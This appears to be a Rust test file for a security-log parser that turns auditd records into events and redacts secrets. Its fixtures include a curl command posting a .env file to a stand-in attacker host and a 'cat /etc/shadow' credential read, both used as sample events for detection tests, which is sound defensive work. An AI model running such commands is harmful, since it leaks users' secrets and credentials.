//! Tests of the dialect `auditd`: the columns of each kind of event, and which lines are one event.

use super::*;
use crate::dialect::testing::{Columns, decoded, events};

fn check(number: usize, expected: &[(&str, Option<&str>)]) -> Columns {
    let event = events(&Auditd, EXAMPLES[number]).remove(0);
    crate::dialect::testing::check(&event, expected);
    event
}

#[test]
fn a_program_that_starts_has_its_arguments() {
    let event = check(
        0,
        &[
            ("source", Some("auditd")),
            ("family", Some("workspace")),
            ("kind", Some("process.exec")),
            ("trust", Some("host")),
            ("source_id", Some("1791015321.512:88412/SYSCALL")),
            ("time", Some("1791015321512000")),
            ("action", Some("execve")),
            ("target", Some("/usr/bin/curl")),
            ("command", Some("curl -d @.env 'https://drop.attacker-logger.com/a b'")),
            ("rule", Some("agent-exec")),
            ("outcome", Some("success")),
            ("file", None),
            ("marks", None),
        ],
    );
    for content in ["@.env", "/home/coder/ledger", "drop.attacker"] {
        assert!(event["content"].contains(content) && !event["record"].contains(content), "{content}");
    }
    assert!(event["record"].contains("ppid=41231") && event.contains_key("effects"));
}

#[test]
fn connections_files_and_exits_are_told() {
    check(
        1,
        &[
            ("kind", Some("egress.flow")),
            ("source_id", Some("node-3/1791015322.100:88413/SYSCALL")),
            ("action", Some("connect")),
            ("target", Some("203.0.113.9:443")),
            ("host", Some("203.0.113.9")),
            ("port", Some("443")),
            ("outcome", Some("allow")),
            ("rule", Some("agent-net")),
            ("command", Some("curl")),
        ],
    );
    check(
        2,
        &[
            ("kind", Some("audit")),
            ("rule", Some("secrets")),
            ("outcome", Some("deny")),
            ("file", Some("/etc/shadow")),
            ("target", Some("/usr/bin/cat")),
            ("command", Some("cat /etc/shadow")),
        ],
    );
    check(5, &[("kind", Some("process.exit")), ("exit_code", Some("2")), ("outcome", None), ("rule", None)]);
}

#[test]
fn programs_and_policies_report() {
    let sudo = check(
        3,
        &[
            ("kind", Some("audit")),
            ("source_id", Some("1791015324.000:88415/USER_CMD")),
            ("action", Some("user_cmd")),
            ("target", Some("/usr/bin/sudo")),
            ("outcome", Some("error")),
        ],
    );
    assert_eq!(sudo["command"], "mount /dev/sda1");
    let denied = check(
        4,
        &[("kind", Some("sensor.alert")), ("rule", Some("avc")), ("action", Some("avc")), ("outcome", Some("deny"))],
    );
    assert_eq!(denied["source_id"].len(), 32, "a line that may belong to others");
}

#[test]
fn a_secret_in_hexadecimal_is_found() {
    let secret = "--token=ghp_0123456789abcdefghijklmnopqrstuvwxyz x";
    let record = format!("type=USER_CMD msg=audit(1.002:3): msg='cmd={} res=failed'", hex::encode_upper(secret));
    let written = crate::encoding::Transcoder::text(&Audit, record.as_bytes()).expect("text");
    let event = events(&Auditd, &written).remove(0);
    assert!(event["command"].starts_with("--token=[REDACTED:"), "{}", event["command"]);
    let digits = hex::encode_upper("0123456789abcdef");
    assert!(event.values().all(|value| !value.contains("0123456789abcdef") && !value.contains(&digits)), "{event:#?}");
}

#[test]
fn a_long_argument_comes_in_parts() {
    let record = "type=EXECVE msg=audit(1.002:3): argc=2 a0=\"sh\" a1_len=4 a1[0]=2D63\ntype=EXECVE msg=audit(1.002:3): a1[1]=206C";
    let written = crate::encoding::Transcoder::text(&Audit, record.as_bytes()).expect("text");
    let event = events(&Auditd, &written).remove(0);
    crate::dialect::testing::check(&event, &[("command", Some("sh '-c l'")), ("kind", Some("process.exec"))]);
}

#[test]
fn lines_of_an_event_are_known() {
    let place = |line: &str| {
        line_of(line.as_bytes()).map(|of| (String::from_utf8_lossy(of.writer).into_owned(), of.time, of.place))
    };
    let at = 1_791_015_321_512_000;
    for (line, expected) in [
        ("type=SYSCALL msg=audit(1791015321.512:7): arch=1", Some((String::new(), at, Place::Open))),
        ("node=n type=PROCTITLE msg=audit(1791015321.512:7): proctitle=\"x\"", Some(("n".to_owned(), at, Place::Last))),
        ("type=EOE msg=audit(1791015321.512:7):", Some((String::new(), at, Place::Last))),
        ("type=USER_LOGIN msg=audit(1791015321.512:7): pid=1", Some((String::new(), at, Place::Alone))),
        ("type=SYSCALL msg=audit(1791015321.512:7): a\ntype=PROCTITLE", None),
        ("type=SYSCALL msg=audit(x:7): a", None),
        ("type=SYSCALL msg=audit(99999999999999999999.1:7): a", None),
        ("hello", None),
        ("", None),
    ] {
        assert_eq!(place(line), expected, "{line}");
    }
    assert_eq!(line_of(b"type=SYSCALL msg=audit(1.2:7): \xff").map(|of| of.record.to_vec()), Some(b"1.2:7".to_vec()));
}

#[test]
fn ends_are_skipped_and_other_lines_told() {
    assert_eq!(decoded(&Auditd, b"type=EOE msg=audit(1.002:3): "), Decoded::Skip(SKIP_SERVER_LINE));
    assert_eq!(decoded(&Auditd, b" "), Decoded::Skip(SKIP_BLANK));
    for line in [&b"hello"[..], b"{}", b"type=SYSCALL msg=audit(1.002:3): \xff"] {
        assert!(matches!(decoded(&Auditd, line), Decoded::Unparsed(_)));
    }
}
